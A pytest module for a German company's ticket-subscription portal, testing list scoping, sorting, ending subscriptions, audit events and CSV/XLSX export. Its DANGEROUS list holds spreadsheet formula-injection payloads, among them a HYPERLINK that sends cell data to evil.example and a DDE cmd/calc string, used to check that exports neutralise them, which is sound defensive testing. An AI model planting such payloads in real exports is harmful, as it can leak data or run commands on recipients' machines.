"""The company's side of the Abos on SQLite and PostgreSQL: the list per contract (scoping, sorting), ending an Abo
when an employee leaves (cut-off rule, once only, permissions, tenant isolation) and the export as CSV and XLSX
(BOM, semicolons, German dates, umlauts, neutralised formula cells, exactly the contract's Abos, audited).

Abos are made the realistic way (an Antrag through the Self-Service service, approved by the company) unless a test
needs values the Self-Service cannot produce (leading tabs), which are written directly."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook

from models import (
    Abo,
    AboStatus,
    AuditEvent,
    Contract,
    Customer,
    Employee,
    PortalUser,
    Role,
    Ticketart,
)
from services import abo_status, abos, antraege, clock, meine_abos, spreadsheet
from services.abos import EXPORT_COLUMNS, SORTABLE
from services.audit import AuditKind
from services.errors import NotFound, PermissionDenied, ServiceError
from services.kundencode import CodeCheck
from services.table_query import TableRequest
from services.validation import format_german_date
from tests.conftest import make_user, new_contract, order_value
from tests.services.test_antraege import START_MONTHS, TODAY, apply, code_check
from tests.support import confirm_by_mail

BOM = b'\xef\xbb\xbf'
ABO_NOT_FOUND = 'Das Abo wurde nicht gefunden.'
END_DENIED = 'Nur Administratoren und Sachbearbeitung Ihrer Firma können Abos beenden.'
ALREADY_ENDED = 'Dieses Abo ist bereits gekündigt oder beendet.'
CONTRACT_NOT_FOUND = 'Der Vertrag wurde nicht gefunden.'
pytestmark = pytest.mark.today(TODAY)


@pytest.fixture
async def check(admin: PortalUser, contract: Contract) -> CodeCheck:
    return await code_check(admin, contract)


@pytest.fixture
async def actors(
    company: Customer, admin: PortalUser, staff: PortalUser, other_admin: PortalUser
) -> dict[str, PortalUser]:
    return {
        'admin': admin,
        'clerk': await make_user('sachbearbeitung@fahrradmanufaktur-kassel.de', Role.CLERK, company, 'Jonas Weber'),
        'readonly': await make_user('lesen@fahrradmanufaktur-kassel.de', Role.READONLY, company, 'Lukas Brandt'),
        'staff': staff,
        'other_admin': other_admin,
    }


async def approved(admin: PortalUser, check: CodeCheck, vorname: str = 'Lena', nachname: str = 'Schaefer',
                   **fields: Any) -> Abo:
    antrag = await apply(check, vorname, nachname, **fields)
    await antraege.decide(admin, antrag.id, approve=True)
    return await Abo.get(antrag_id=antrag.id)


async def written(contract: Contract, vorname: str, nachname: str, personalnummer: str = '', *,
                  startmonat: date = date(2026, 1, 1), endmonat: date | None = None,
                  status: AboStatus = AboStatus.AKTIV, ticketart: Ticketart = Ticketart.HANDYTICKET) -> Abo:
    """An Abo written directly, for values no form lets through."""
    birthday = date(1990, 1, 2)
    return await Abo.create(
        contract=contract, vorname=vorname, nachname=nachname, geburtsdatum=birthday, personalnummer=personalnummer,
        strasse='Königstor 1', plz='34117', ort='Kassel', ticketart=ticketart, startmonat=startmonat,
        endmonat=endmonat, status=status, person_key=antraege.person_key(vorname, nachname, birthday),
        created_at=clock.now(),
    )


async def listed(actor: PortalUser, contract: Contract, **request: Any) -> list[int]:
    page = await abos.list_abos(actor, contract.id, TableRequest(**request))
    return [abo.id for abo in page.rows]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode('utf-8-sig'), newline=''), delimiter=';'))


def xlsx_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [['' if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


def xlsx_cells(content: bytes) -> list[Any]:  # openpyxl cells (openpyxl has no types)
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


# --- the list --------------------------------------------------------------------------------------------------------


async def test_the_list_holds_exactly_the_contracts_abos(
    admin: PortalUser, company: Customer, contract: Contract, check: CodeCheck, other_admin: PortalUser,
    other_company: Customer, staff: PortalUser,
) -> None:
    lena = await approved(admin, check)
    jonas = await approved(admin, check, 'Jonas', 'Becker')
    await apply(check, 'Mia', 'Adler')  # an open Antrag is no Abo
    second = await new_contract(company, 'V-2026-0002')
    elsewhere = await approved(admin, await code_check(admin, second), 'Paul', 'Dorn')
    foreign_contract = await new_contract(other_company, 'V-2026-0100')
    foreign = await approved(other_admin, await code_check(other_admin, foreign_contract), 'Martin', 'Fremd')

    page = await abos.list_abos(admin, contract.id, TableRequest())
    assert [abo.id for abo in page.rows] == [jonas.id, lena.id]  # by Nachname by default
    assert page.total == 2
    assert await listed(admin, second) == [elsewhere.id]
    assert await listed(staff, foreign_contract) == [foreign.id]
    assert await listed(other_admin, foreign_contract) == [foreign.id]


@pytest.mark.parametrize('role', ['admin', 'clerk', 'readonly'])
async def test_another_companys_abos_are_not_found(
    actors: dict[str, PortalUser], other_company: Customer, role: str
) -> None:
    other_admin = actors['other_admin']
    foreign_contract = await new_contract(other_company, 'V-2026-0100')
    foreign = await approved(other_admin, await code_check(other_admin, foreign_contract), 'Martin', 'Fremd')
    actor = actors[role]
    with pytest.raises(NotFound, match=re.escape(CONTRACT_NOT_FOUND)):
        await abos.list_abos(actor, foreign_contract.id, TableRequest())
    with pytest.raises(NotFound, match=re.escape(CONTRACT_NOT_FOUND)):
        await abos.export_csv(actor, foreign_contract.id)
    with pytest.raises(NotFound, match=re.escape(CONTRACT_NOT_FOUND)):
        await abos.export_xlsx(actor, foreign_contract.id)
    for abo_id in (foreign.id, 987_654):
        with pytest.raises(NotFound) as raised:
            await abos.end_abo(actor, abo_id)
        assert str(raised.value) == ABO_NOT_FOUND
    await foreign.refresh_from_db()
    assert (foreign.status, foreign.endmonat) == (AboStatus.AKTIV, None)
    assert not await AuditEvent.filter(kind__in=[AuditKind.ABO_ENDED, AuditKind.ABOS_EXPORTED]).exists()


@pytest.fixture
async def mixed(contract: Contract) -> list[Abo]:
    """Abos that differ in every sortable column; all have an end, so NULL placement plays no part here."""
    return [
        await written(contract, 'Lena', 'Schaefer', 'P-300', startmonat=date(2025, 3, 1), endmonat=date(2026, 5, 31),
                      status=AboStatus.GEKUENDIGT),
        await written(contract, 'Jonas', 'Becker', 'P-100', startmonat=date(2025, 1, 1), endmonat=date(2025, 12, 31),
                      status=AboStatus.BEENDET, ticketart=Ticketart.CHIPKARTE),
        await written(contract, 'Mia', 'Adler', 'P-500', startmonat=date(2026, 2, 1), endmonat=date(2026, 8, 31),
                      status=AboStatus.GEKUENDIGT),
        await written(contract, 'Paul', 'Schaefer', 'P-200', startmonat=date(2024, 6, 1), endmonat=date(2026, 4, 30),
                      status=AboStatus.GEKUENDIGT, ticketart=Ticketart.CHIPKARTE),
        await written(contract, 'Emil', 'Dorn', 'P-400', startmonat=date(2025, 9, 1), endmonat=date(2027, 1, 31),
                      status=AboStatus.AKTIV),
    ]


@pytest.mark.parametrize('descending', [False, True], ids=['ascending', 'descending'])
@pytest.mark.parametrize('column', SORTABLE)
async def test_every_sortable_column_sorts_with_ties_by_id(
    admin: PortalUser, contract: Contract, mixed: list[Abo], column: str, descending: bool
) -> None:
    def shown(abo: Abo) -> object:
        """Status sorts by the label of today (first word: ab < aktiv < beendet < gekündigt), not the stored word."""
        return abo_status.label(abo, TODAY).split()[0] if column == 'status' else order_value(abo, column)

    expected = [abo.id for abo in sorted(mixed, key=lambda a: (shown(a), a.id), reverse=descending)]
    page = await abos.list_abos(admin, contract.id, TableRequest(sort=column, descending=descending))
    assert [abo.id for abo in page.rows] == expected
    assert (page.request.sort, page.request.descending) == (column, descending)


@pytest.mark.parametrize('descending', [False, True], ids=['ascending', 'descending'])
async def test_running_abos_without_an_end_stay_together_when_sorted_by_ende(
    admin: PortalUser, contract: Contract, mixed: list[Abo], descending: bool
) -> None:
    """Where NULL sorts differs between SQLite (first) and PostgreSQL (last); either way the ended Abos keep their
    order and the running ones form one block."""
    running = [await written(contract, 'Ida', 'Vogt'), await written(contract, 'Ole', 'Berg')]
    ids = await listed(admin, contract, sort='endmonat', descending=descending)
    ended = [abo.id for abo in sorted(mixed, key=lambda a: (a.endmonat, a.id), reverse=descending)]
    assert [abo_id for abo_id in ids if abo_id in ended] == ended
    block = sorted((abo.id for abo in running), reverse=descending)
    assert ids[:2] == block or ids[-2:] == block


async def test_the_abo_list_searches_and_pages(admin: PortalUser, contract: Contract) -> None:
    made = [await written(contract, 'Lena', f'Nummer{index:02d}', f'P-{index}') for index in range(12)]
    await written(contract, 'Jürgen', 'Größe', 'X-1')
    page = await abos.list_abos(admin, contract.id, TableRequest(page=2))
    assert [abo.id for abo in page.rows] == [made[9].id, made[10].id, made[11].id]  # 'Größe' comes first
    assert (page.total, page.page_count) == (13, 2)
    assert await listed(admin, contract, search='GRÖSSE') == await listed(admin, contract, search='größe') != []
    assert await listed(admin, contract, search='nummer03') == [made[3].id]


# --- ending an Abo ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ('today', 'expected_end'),
    [
        (TODAY, date(2026, 4, 30)),  # before its first month: never before the end of that month
        (date(2026, 5, 1), date(2026, 5, 31)),
        (date(2026, 5, 10), date(2026, 5, 31)),  # the cut-off day still counts for this month
        (date(2026, 5, 11), date(2026, 6, 30)),  # after it: the end of next month
        (date(2026, 12, 20), date(2027, 1, 31)),  # across the year
    ],
)
async def test_ending_an_abo_follows_the_cut_off_rule(
    admin: PortalUser, contract: Contract, check: CodeCheck, set_today: Callable[[date], None], today: date,
    expected_end: date,
) -> None:
    abo = await approved(admin, check)
    assert abo.startmonat == START_MONTHS[0] == date(2026, 4, 1)
    set_today(today)
    ended = await abos.end_abo(admin, abo.id, client='192.0.2.11')
    assert (ended.status, ended.endmonat) == (AboStatus.GEKUENDIGT, expected_end)
    assert ended.cancelled_at is not None
    stored = await Abo.get(id=abo.id)
    assert (stored.status, stored.endmonat) == (AboStatus.GEKUENDIGT, expected_end)

    (event,) = await AuditEvent.filter(kind=AuditKind.ABO_ENDED)
    assert event.actor_id == admin.id
    assert event.customer_id == contract.customer_id
    assert (event.object_type, event.object_id) == ('abo', str(abo.id))
    assert event.details == {'endmonat': expected_end.isoformat()}
    assert event.client == '192.0.2.11'

    employee = await Employee.get(id=abo.employee_id)
    (mine,) = await meine_abos.my_abos(employee)
    assert f'gekündigt zum {format_german_date(expected_end)}' in abo_status.label(mine, today)


async def test_an_abo_is_ended_only_once(
    admin: PortalUser, check: CodeCheck, set_today: Callable[[date], None]
) -> None:
    abo = await approved(admin, check)
    first = await abos.end_abo(admin, abo.id)
    set_today(date(2026, 6, 20))  # later, a different end would follow
    for attempt in range(2):
        with pytest.raises(ServiceError) as raised:
            await abos.end_abo(admin, abo.id)
        assert type(raised.value) is ServiceError, attempt
        assert str(raised.value) == ALREADY_ENDED
    assert (await Abo.get(id=abo.id)).endmonat == first.endmonat
    assert await AuditEvent.filter(kind=AuditKind.ABO_ENDED).count() == 1


async def test_an_abo_the_employee_cancelled_cannot_be_ended(admin: PortalUser, check: CodeCheck) -> None:
    abo = await approved(admin, check)
    employee = await Employee.get(id=abo.employee_id)
    cancelled = await meine_abos.cancel_abo(employee, abo.id)
    with pytest.raises(ServiceError, match=re.escape(ALREADY_ENDED)):
        await abos.end_abo(admin, abo.id)
    assert (await Abo.get(id=abo.id)).endmonat == cancelled.endmonat


@pytest.mark.parametrize(
    ('role', 'refused_with'),
    [('admin', None), ('clerk', None), ('staff', None), ('readonly', PermissionDenied), ('other_admin', NotFound)],
)
async def test_who_may_end_an_abo(
    actors: dict[str, PortalUser], check: CodeCheck, role: str, refused_with: type[ServiceError] | None
) -> None:
    abo = await approved(actors['admin'], check)
    actor = actors[role]
    if refused_with is None:
        ended = await abos.end_abo(actor, abo.id)
        assert ended.status == AboStatus.GEKUENDIGT
        (event,) = await AuditEvent.filter(kind=AuditKind.ABO_ENDED)
        assert event.actor_id == actor.id
        return
    with pytest.raises(refused_with) as raised:
        await abos.end_abo(actor, abo.id)
    assert str(raised.value) == (END_DENIED if refused_with is PermissionDenied else ABO_NOT_FOUND)
    stored = await Abo.get(id=abo.id)
    assert (stored.status, stored.endmonat, stored.cancelled_at) == (AboStatus.AKTIV, None, None)
    assert not await AuditEvent.filter(kind=AuditKind.ABO_ENDED).exists()


async def test_the_abo_search_follows_the_status_after_ending(
    admin: PortalUser, contract: Contract, check: CodeCheck
) -> None:
    ended = await approved(admin, check)
    running = await approved(admin, check, 'Jonas', 'Becker')
    await abos.end_abo(admin, ended.id)
    assert await listed(admin, contract, search='aktiv') == [running.id]
    assert await listed(admin, contract, search='gekündigt') == [ended.id]


# --- the export ------------------------------------------------------------------------------------------------------


@pytest.fixture
async def exported_contract(
    admin: PortalUser, company: Customer, contract: Contract, check: CodeCheck, other_admin: PortalUser,
    other_company: Customer,
) -> Contract:
    """Two approved Abos (one ended since), one with umlauts; Abos elsewhere that must not appear."""
    await approved(admin, check, 'Jürgen', 'Müßig-Größe', personalnummer='Ä-17', ticketart=Ticketart.CHIPKARTE)
    lena = await approved(admin, check, 'Lena', 'Becker', personalnummer='P-4711', startmonat=START_MONTHS[1])
    await abos.end_abo(admin, lena.id)
    await apply(check, 'Mia', 'Offen')  # still an Antrag
    second = await new_contract(company, 'V-2026-0002')
    await approved(admin, await code_check(admin, second), 'Paul', 'Anderswo')
    foreign_contract = await new_contract(other_company, 'V-2026-0100')
    await approved(other_admin, await code_check(other_admin, foreign_contract), 'Martin', 'Fremd')
    return contract


EXPECTED_ROWS = [
    list(EXPORT_COLUMNS),
    # Today (05.03.2026) both start later: the status says so (the stored word said 'aktiv' and 'gekündigt').
    ['Becker', 'Lena', 'P-4711', '01.05.2026', '31.05.2026', 'ab 05/2026, gekündigt zum 31.05.2026', 'Handyticket'],
    ['Müßig-Größe', 'Jürgen', 'Ä-17', '01.04.2026', '', 'ab 04/2026', 'Chipkarte'],
]


async def test_the_csv_export_opens_in_german_excel(admin: PortalUser, exported_contract: Contract) -> None:
    content = await abos.export_csv(admin, exported_contract.id, client='192.0.2.12')
    assert content.startswith(BOM)
    assert not content[3:].startswith(BOM)
    text = content[3:].decode('utf-8')
    assert text.splitlines()[0] == ';'.join(EXPORT_COLUMNS)
    assert text.endswith('\r\n')
    assert 'Müßig-Größe;Jürgen;Ä-17;01.04.2026;;ab 04/2026;Chipkarte\r\n' in text
    assert csv_rows(content) == EXPECTED_ROWS
    assert 'Anderswo' not in text and 'Fremd' not in text and 'Offen' not in text

    (event,) = await AuditEvent.filter(kind=AuditKind.ABOS_EXPORTED)
    assert event.actor_id == admin.id
    assert event.customer_id == exported_contract.customer_id
    assert (event.object_type, event.object_id) == ('contract', str(exported_contract.id))
    assert event.details == {'format': 'csv', 'zeilen': 2}
    assert event.client == '192.0.2.12'


async def test_the_xlsx_export_has_the_same_rows(admin: PortalUser, exported_contract: Contract) -> None:
    content = await abos.export_xlsx(admin, exported_contract.id, client='192.0.2.13')
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ['Abos']
    sheet = workbook.active
    assert sheet.freeze_panes == 'A2'
    assert all(cell.font.bold for cell in sheet[1])
    assert xlsx_rows(content) == EXPECTED_ROWS
    assert all(cell.data_type != 'f' for cell in xlsx_cells(content))
    (event,) = await AuditEvent.filter(kind=AuditKind.ABOS_EXPORTED)
    assert event.details == {'format': 'xlsx', 'zeilen': 2}
    assert event.actor_id == admin.id


@pytest.mark.parametrize('role', ['admin', 'clerk', 'readonly', 'staff'])
async def test_everyone_who_sees_the_contract_may_export(
    actors: dict[str, PortalUser], exported_contract: Contract, role: str
) -> None:
    assert csv_rows(await abos.export_csv(actors[role], exported_contract.id)) == EXPECTED_ROWS
    assert xlsx_rows(await abos.export_xlsx(actors[role], exported_contract.id)) == EXPECTED_ROWS
    events = await AuditEvent.filter(kind=AuditKind.ABOS_EXPORTED)
    assert [event.actor_id for event in events] == [actors[role].id] * 2


async def test_an_empty_export_has_the_header(admin: PortalUser, contract: Contract) -> None:
    assert (await abos.export_csv(admin, contract.id)) == BOM + (';'.join(EXPORT_COLUMNS) + '\r\n').encode()
    assert xlsx_rows(await abos.export_xlsx(admin, contract.id)) == [list(EXPORT_COLUMNS)]


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    '+49 561 123',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '=1+1;2',
]


@pytest.fixture
async def dangerous_contract(admin: PortalUser, contract: Contract, check: CodeCheck) -> Contract:
    """Formula-like values in every free-text column: through the Self-Service where it lets them through, written
    directly for the leading tab and carriage return (the form trims those)."""
    data = [('=cmd', '+Becker', '-4711'), ('@Lena', '=SUM(A1:A9)', '+49')]
    for index, (vorname, nachname, personalnummer) in enumerate(data):
        antrag = await antraege.submit_application(
            check, antraege.ApplicationInput(
                anrede='Frau', vorname=vorname, nachname=nachname, geburtsdatum='14.07.1988',
                email=f'formel{index}@example.de', strasse='Königstor 1', plz='34117', ort='Kassel',
                personalnummer=personalnummer, startmonat=START_MONTHS[0].strftime('%d.%m.%Y'),
                ticketart='Handyticket',
            ), consent=True, password='Herkules-Bergpark-Kaskaden-9',
            password_confirmation='Herkules-Bergpark-Kaskaden-9',
        )
        assert (antrag.vorname, antrag.nachname, antrag.personalnummer) == (vorname, nachname, personalnummer)
        await confirm_by_mail(antrag.email)
        await antraege.decide(admin, antrag.id, approve=True)
    for index, value in enumerate(DANGEROUS):
        await written(contract, value, f'Zz{index}{value}', value)
    return contract


def expected_dangerous() -> list[tuple[str, str, str]]:
    rows = [("'=cmd", "'+Becker", "'-4711"), ("'@Lena", "'=SUM(A1:A9)", "'+49")]
    rows += [(f"'{value}", f'Zz{index}{value}', f"'{value}") for index, value in enumerate(DANGEROUS)]
    return sorted(rows)


async def test_formula_cells_are_neutralised_in_the_csv(admin: PortalUser, dangerous_contract: Contract) -> None:
    rows = csv_rows(await abos.export_csv(admin, dangerous_contract.id))
    assert rows[0] == list(EXPORT_COLUMNS)
    assert sorted((row[1], row[0], row[2]) for row in rows[1:]) == expected_dangerous()
    for row in rows[1:]:
        assert not any(cell.startswith(spreadsheet.FORMULA_STARTS) for cell in row), row


async def test_formula_cells_are_neutralised_in_the_xlsx(admin: PortalUser, dangerous_contract: Contract) -> None:
    content = await abos.export_xlsx(admin, dangerous_contract.id)
    cells = xlsx_cells(content)
    assert [cell for cell in cells if cell.data_type == 'f'] == []
    assert all(cell.data_type == 's' for cell in cells if cell.value not in (None, ''))
    rows = xlsx_rows(content)

    def as_read_back(value: str) -> str:
        # XML may normalise a carriage return in a text cell to a line feed (openpyxl's own writer does; with lxml
        # installed it is kept as &#13;): compare both sides with line feeds
        return value.replace('\r', '\n')

    expected = sorted(tuple(as_read_back(value) for value in row) for row in expected_dangerous())
    assert sorted((as_read_back(row[1]), as_read_back(row[0]), as_read_back(row[2])) for row in rows[1:]) == expected
    csv_values = csv_rows(await abos.export_csv(admin, dangerous_contract.id))[1:]
    assert [[as_read_back(value) for value in row] for row in rows[1:]] == [
        [as_read_back(value) for value in row] for row in csv_values]


@pytest.mark.parametrize('separator', [';', '"', '\n'])
async def test_separators_and_quotes_inside_values_keep_the_columns(
    admin: PortalUser, contract: Contract, separator: str
) -> None:
    await written(contract, f'Anna{separator}Lena', f'Schmidt{separator}Meier', f'P{separator}1')
    (header, row) = csv_rows(await abos.export_csv(admin, contract.id))
    assert len(row) == len(header)
    assert row[:3] == [f'Schmidt{separator}Meier', f'Anna{separator}Lena', f'P{separator}1']


async def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(
    admin: PortalUser, contract: Contract, check: CodeCheck
) -> None:
    """The forms refuse control characters; data that holds one anyway (older imports) still exports."""
    data = antraege.ApplicationInput(
        anrede='Herr', vorname='Jo\x1bnas', nachname='Becker', geburtsdatum='01.02.1990', email='jonas@example.de',
        strasse='Königstor 1', plz='34117', ort='Kassel', startmonat=START_MONTHS[0].strftime('%d.%m.%Y'),
        ticketart='Chipkarte',
    )
    assert antraege.check_application(data, TODAY)[1] == {
        'vorname': 'Die Eingabe enthält unzulässige Steuerzeichen.'
    }
    await written(contract, 'Jo\x1bnas', 'Becker')
    rows = xlsx_rows(await abos.export_xlsx(admin, contract.id))
    assert len(rows) == 2
    assert rows[1][:2] == ['Becker', 'Jonas']


def test_neutralise_leaves_plain_values_alone() -> None:
    for value in ('', 'Schäfer', 'P-4711', '01.04.2026', "O'Brien", ' =x', 'a=b'):
        assert abos.neutralise(value) == value
    for value in ('=x', '+x', '-x', '@x', '\tx', '\rx'):
        assert abos.neutralise(value) == f"'{value}"

